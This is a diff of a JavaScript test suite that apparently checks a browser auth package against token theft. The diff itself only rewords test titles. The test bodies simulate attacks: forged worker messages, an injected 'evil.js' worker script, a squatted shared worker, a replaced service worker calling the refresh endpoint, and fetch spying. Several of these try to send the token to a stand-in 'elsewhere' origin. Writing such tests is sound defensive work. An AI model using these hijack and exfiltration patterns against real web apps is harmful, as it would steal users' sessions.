@@ -95,7 +95,7 @@ export default [
     }, scene.elsewhere.origin)
     return [...lured(scene), await scene.loot(page)]
   }),
-  alone('Forged messages on the page\'s port have calls sent elsewhere', ACCESS, [], async (scene) => {
+  alone('Forged messages on the page\'s port request calls to other places', ACCESS, [], async (scene) => {
     scene.server.routes['/outside'] = () => ({ body: 'outside' })
     const page = await tapped(scene)
     const urls = [`${scene.elsewhere.origin}/x`, `${scene.server.origin}/outside`, '/outside', `${scene.server.origin}/api/../outside`, `http://127.0.0.1:${scene.elsewhere.port}/api/x`, [`${scene.elsewhere.origin}/x`]]
@@ -111,7 +111,7 @@ export default [
     }
     return lured(scene)
   }),
-  alone('A flood of malformed messages, for errors that tell', ACCESS, [], async (scene) => {
+  alone('A flood of malformed messages, to get errors that contain the token', ACCESS, [], async (scene) => {
     const page = await tapped(scene)
     await page.evaluate(async (messages) => {
       const [port] = tapped.ports
@@ -123,7 +123,7 @@ export default [
     if (answer !== 200) throw new Error(`the app goes on: ${answer}`)
     return scene.loot(page)
   }),
-  alone('Another port to the page\'s worker, with options of the attacker\'s', ACCESS, [], async (scene) => {
+  alone('Another port to the page\'s worker, with the attacker\'s options', ACCESS, [], async (scene) => {
     const page = await tapped(scene)
     await page.evaluate(async (far) => {
       const { name, args, worker } = tapped.workers[0] ?? {}
@@ -141,7 +141,7 @@ export default [
     }, scene.elsewhere.origin)
     return [...lured(scene), await scene.loot(page)]
   }),
-  alone('A shared worker of the app\'s name, started before the app by another tab, with more `apis`', ACCESS, [], async (scene) => {
+  alone('A shared worker with the app\'s name, which another tab starts before the app, with more `apis`', ACCESS, [], async (scene) => {
     const squatter = await squats(scene)
     const page = await scene.tab({ options: { ...API, ...MEMORY }, before: tap }).catch(() => undefined)
     await page?.evaluate(async (far) => {
@@ -152,7 +152,7 @@ export default [
     await squatter.evaluate((far) => send(`${far}/x`), scene.elsewhere.origin)
     return [...lured(scene), await scene.loot(squatter)]
   }, { homes: SHARED, server: { isInMemory: true } }),
-  alone('A shared worker of the app\'s name, started before the app by another tab, with more `apis`', 'that the app cannot start', SHARED, async (scene) => {
+  alone('A shared worker with the app\'s name, which another tab starts before the app, with more `apis`', 'the app cannot start', SHARED, async (scene) => {
     await squats(scene)
     return scene.tab({ options: { ...API, ...MEMORY } }).then(() => false, () => true)
   }, { homes: SHARED, server: { isInMemory: true } }),
@@ -169,7 +169,7 @@ export default [
     await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
     return lured(scene)
   }, { when })),
-  ...['before', 'after'].map((when) => alone('`Worker` and `SharedWorker`, in whose place is another script', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
+  ...['before', 'after'].map((when) => alone('`Worker` and `SharedWorker` start another script', ACCESS, when === 'before' ? WORKERS : [], async (scene) => {
     scene.server.routes['/evil.js'] = () => ({ type: 'text/javascript', body: `
       const { fetch } = globalThis
       const told = new BroadcastChannel('evil')
@@ -201,7 +201,7 @@ export default [
     })
     return scene.loot(page)
   }, { when, homes: WORKERS })),
-  ...['before', 'after'].map((when) => alone('`ServiceWorkerContainer`: `register`, which adds to the options, and `getRegistration`', ACCESS, when === 'before' ? SERVICE : [], async (scene) => {
+  ...['before', 'after'].map((when) => alone('`ServiceWorkerContainer`: `register` adds to the options, and `getRegistration` is patched', ACCESS, when === 'before' ? SERVICE : [], async (scene) => {
     const page = await scene.tab({ options: API, argument: scene.elsewhere.origin, [when]: (far) => {
       const { register } = ServiceWorkerContainer.prototype
       let asked
@@ -226,12 +226,12 @@ export default [
     await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
     return [...lured(scene), await scene.loot(page)]
   }, { when, homes: SERVICE })),
-  alone('A service worker of the attacker\'s in the place of the app\'s asks the refresh endpoint', ACCESS, SERVICE, async (scene) => {
+  alone('The attacker\'s service worker replaces the app\'s, and calls the refresh endpoint', ACCESS, SERVICE, async (scene) => {
     const page = await scene.signedIn({ options: API })
     await replace(scene, page)
     return page.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text()))
   }, { homes: SERVICE }),
-  alone('A service worker of the attacker\'s in the place of the app\'s, where the refresh token is in memory', REFRESH, [], async (scene) => {
+  alone('The attacker\'s service worker replaces the app\'s, with the refresh token in memory', REFRESH, [], async (scene) => {
     const page = await scene.signedIn({ options: { ...API, ...MEMORY } })
     await replace(scene, page)
     await page.evaluate(async () => {
@@ -250,7 +250,7 @@ export default [
     await last.reload()
     return last.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text(), String))
   }, { homes: SERVICE }),
-  alone('The page\'s own `fetch` and XMLHttpRequest, and all that they show of a call that has the token', ACCESS, [], async (scene) => {
+  alone('The page\'s own `fetch` and XMLHttpRequest, and all that they reveal of a call with the token', ACCESS, [], async (scene) => {
     const page = await scene.tab({ options: API, before: () => {
       attacker.spy(globalThis, 'fetch')
       attacker.spy(XMLHttpRequest.prototype, 'getAllResponseHeaders')
@@ -270,7 +270,7 @@ export default [
     })
     return scene.loot(page)
   }, { homes: SERVICE }),
-  alone('The API redirects a call of the page\'s own `fetch` elsewhere, and the token is in a header of the app\'s own', ACCESS, [], async (scene) => {
+  alone('The API redirects a call of the page\'s own `fetch` elsewhere, and the token is in a custom header', ACCESS, [], async (scene) => {
     const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, x-token' }
     scene.server.routes['/api/out'] = () => ({ status: 302, headers: { ...cors, location: `${scene.elsewhere.origin}/landed` } })
     const page = await scene.signedIn({ options: { ...API, attach: { header: 'X-Token', scheme: '' } } })
@@ -279,11 +279,11 @@ export default [
     })
     return lured(scene)
   }, { homes: SERVICE }),
-  alone('A worker of the attacker\'s own, with the package\'s script, more `apis` and the refresh cookie', ACCESS, HOMES, async (scene) => {
+  alone('A worker started by the attacker, with the package\'s script, more `apis` and the refresh cookie', ACCESS, HOMES, async (scene) => {
     await scene.signedIn({ options: API })
     return ownWorker(scene)
   }),
-  alone('A worker of the attacker\'s own, with the package\'s script and more `apis`, where the refresh token is in memory', ACCESS, [], async (scene) => {
+  alone('A worker started by the attacker, with the package\'s script and more `apis`, and the refresh token in memory', ACCESS, [], async (scene) => {
     await scene.signedIn({ options: { ...API, ...MEMORY } })
     return ownWorker(scene, MEMORY)
   }, { server: { isInMemory: true } }),
